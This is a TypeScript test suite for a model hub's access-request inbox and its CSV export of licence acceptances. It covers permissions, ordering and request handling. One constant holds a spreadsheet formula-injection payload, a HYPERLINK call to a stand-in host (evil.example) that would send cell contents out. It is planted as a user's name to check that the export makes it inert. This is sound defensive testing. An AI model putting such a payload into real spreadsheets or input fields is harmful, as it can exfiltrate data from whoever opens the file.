import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { createToken, expectError, expectStatus } from "../security/support.js";
import { DIALECTS, startHub, TEST_ADMIN_TOKEN, type TestHub } from "../support/harness.js";
import { ManualClock } from "../support/manual-clock.js";
import { GOOD_ANSWERS, askAccess, gatedCard, publishGated } from "./gate-support.js";

interface InboxRequest {
  readonly id: string;
  readonly model: string;
  readonly grantee: string;
  readonly requester: string;
  readonly status: string;
  readonly fields: Record<string, unknown>;
}

interface Inbox {
  readonly requests: readonly InboxRequest[];
  readonly models: readonly string[];
}

/** Text a spreadsheet would run as a formula, as a requester might give for their name. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

for (const dialect of DIALECTS) {
  describe(`the access-request inbox and the acceptance records as CSV (${dialect})`, () => {
    let hub: TestHub;
    const clock = new ManualClock("2026-06-01T09:00:00.000Z");
    const tokens: Record<string, string> = {};
    const as = (name: string): string => tokens[name] ?? "";

    before(async () => {
      hub = await startHub(dialect, {}, { clock });
      for (const name of ["alice", "rita", "carl", "bea", "dora", "olga"]) {
        tokens[name] = await hub.createUser(name);
      }
      // bob names himself with a formula; the CSV export must not run it.
      await expectStatus(
        hub.request("POST", "/api/users", {
          token: TEST_ADMIN_TOKEN,
          json: { name: "bob", fullname: FORMULA_NAME },
        }),
        201,
      );
      tokens.bob = (
        await createToken(hub, TEST_ADMIN_TOKEN, { user: "bob", scopes: ["read", "write"] })
      ).token;
      for (const [org, owner] of [
        ["acme", "alice"],
        ["beta", "bea"],
      ] as const) {
        await expectStatus(
          hub.request("POST", "/api/orgs", { token: as(owner), json: { name: org } }),
          201,
        );
      }
      for (const [user, role] of [
        ["rita", "reviewer"],
        ["carl", "member"],
      ] as const) {
        await expectStatus(
          hub.request("PUT", `/api/orgs/acme/members/${user}`, {
            token: as("alice"),
            json: { role },
          }),
          200,
        );
      }
      const files = { "README.md": gatedCard(), "weights.bin": "gated weights" };
      await publishGated(hub, as("alice"), "acme/llm", "v1", files);
      await publishGated(hub, as("alice"), "acme/quiet", "v1", files);
      await publishGated(hub, as("bea"), "beta/gem", "v1", files);
      await expectStatus(
        askAccess(hub, as("bob"), "acme/llm", {
          answers: { ...GOOD_ANSWERS, Name: FORMULA_NAME },
          acceptLicence: true,
        }),
        202,
      );
      clock.advance(60);
      await expectStatus(askAccess(hub, as("rita"), "acme/llm"), 202);
      clock.advance(60);
      await expectStatus(askAccess(hub, as("dora"), "beta/gem"), 202);
    });
    after(() => hub.close());

    const inbox = async (token: string): Promise<Inbox> => {
      const res = await expectStatus(
        hub.request("GET", "/api/inbox/access-requests", { token }),
        200,
      );
      return (await res.json()) as Inbox;
    };
    const summary = (box: Inbox) => ({
      requests: box.requests.map((r) => `${r.grantee}→${r.model}`),
      models: box.models,
    });

    it("lists the pending requests of every model the caller manages, oldest first, with the gated models to grant", async () => {
      assert.deepEqual(summary(await inbox(as("alice"))), {
        requests: ["bob→acme/llm", "rita→acme/llm"],
        models: ["acme/llm", "acme/quiet"],
      });
      const [first] = (await inbox(as("alice"))).requests;
      assert.equal(first?.status, "pending");
      assert.equal(first.requester, "bob");
      assert.equal(first.fields.Country, "GB");
      assert.deepEqual(summary(await inbox(as("bea"))), {
        requests: ["dora→beta/gem"],
        models: ["beta/gem"],
      });
      assert.deepEqual(summary(await inbox(TEST_ADMIN_TOKEN)), {
        requests: ["bob→acme/llm", "rita→acme/llm", "dora→beta/gem"],
        models: ["acme/llm", "acme/quiet", "beta/gem"],
      });
    });

    it("leaves out a reviewer's own request, which they may not decide", async () => {
      assert.deepEqual(summary(await inbox(as("rita"))), {
        requests: ["bob→acme/llm"],
        models: ["acme/llm", "acme/quiet"],
      });
    });

    it("shows nothing of models the caller may not manage: a member, an outsider, a requester", async () => {
      for (const name of ["carl", "olga", "dora", "bob"]) {
        assert.deepEqual(summary(await inbox(as(name))), { requests: [], models: [] }, name);
      }
    });

    it("drops a request from the inbox once it is decided, and the requester's access follows", async () => {
      const handled = await expectStatus(
        hub.request("POST", "/api/models/acme/llm/user-access-request/handle", {
          token: as("rita"),
          json: { user: "bob", status: "accepted" },
        }),
        200,
      );
      assert.equal(((await handled.json()) as { status: string }).status, "accepted");
      assert.deepEqual(summary(await inbox(as("alice"))).requests, ["rita→acme/llm"]);
      const mine = await expectStatus(
        hub.request("GET", "/api/access/mine", { token: as("bob") }),
        200,
      );
      const body = (await mine.json()) as { grants: { model: string; status: string }[] };
      assert.deepEqual(
        body.grants.map((g) => [g.model, g.status]),
        [["acme/llm", "live"]],
      );
    });

    it("refuses the inbox to anonymous callers, read-only tokens and tokens restricted to a model", async () => {
      await expectError(hub.request("GET", "/api/inbox/access-requests"), 401, "UNAUTHENTICATED");
      const read = await createToken(hub, as("alice"), { scopes: ["read"] });
      await expectError(
        hub.request("GET", "/api/inbox/access-requests", { token: read.token }),
        403,
        "INSUFFICIENT_SCOPE",
      );
      const restricted = await createToken(hub, as("alice"), {
        scopes: ["read", "write"],
        model: "acme/llm",
      });
      await expectError(
        hub.request("GET", "/api/inbox/access-requests", { token: restricted.token }),
        403,
        "FORBIDDEN",
      );
    });

    it("exports the licence acceptances as CSV, a formula in a requester's name made inert", async () => {
      const res = await expectStatus(
        hub.request("GET", "/api/models/acme/llm/access/acceptances?format=csv", {
          token: as("alice"),
        }),
        200,
      );
      assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
      assert.equal(
        res.headers.get("content-disposition"),
        'attachment; filename="acme-llm-licence-acceptances.csv"',
      );
      const lines = (await res.text()).split("\r\n");
      assert.equal(
        lines[0],
        "id,user,fullname,email,version,licence,licence_sha256,accepted_at,answers",
      );
      // bob and rita accepted the licence as they asked; bob's name is quoted (it holds
      // quotes and a comma) and starts with ' so that no spreadsheet runs it.
      assert.equal(lines.length, 4);
      assert.equal(lines[3], "");
      const bob = lines[1] ?? "";
      assert.match(
        bob,
        /^la_[^,]+,bob,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",,v1,llama3,[0-9a-f]{64},2026-06-01T09:00:00\.000Z,"\{/,
      );
      // The answers cell is JSON, which starts with { and so is never read as a formula.
      assert.match(bob, /""Name"":""=HYPERLINK/);
      const json = await expectStatus(
        hub.request("GET", "/api/models/acme/llm/access/acceptances", { token: as("alice") }),
        200,
      );
      assert.equal(((await json.json()) as unknown[]).length, 2);
    });

    it("refuses a format it does not write, and the records to whoever may not manage access", async () => {
      const bad = await expectError(
        hub.request("GET", "/api/models/acme/llm/access/acceptances?format=xlsx", {
          token: as("alice"),
        }),
        400,
        "BAD_REQUEST",
      );
      assert.match(bad.error, /format/);
      await expectError(
        hub.request("GET", "/api/models/acme/llm/access/acceptances?format=csv", {
          token: as("carl"),
        }),
        403,
        "FORBIDDEN",
      );
      await expectError(
        hub.request("GET", "/api/models/acme/llm/access/acceptances?format=csv", {
          token: as("bob"),
        }),
        403,
        "FORBIDDEN",
      );
    });
  });
}
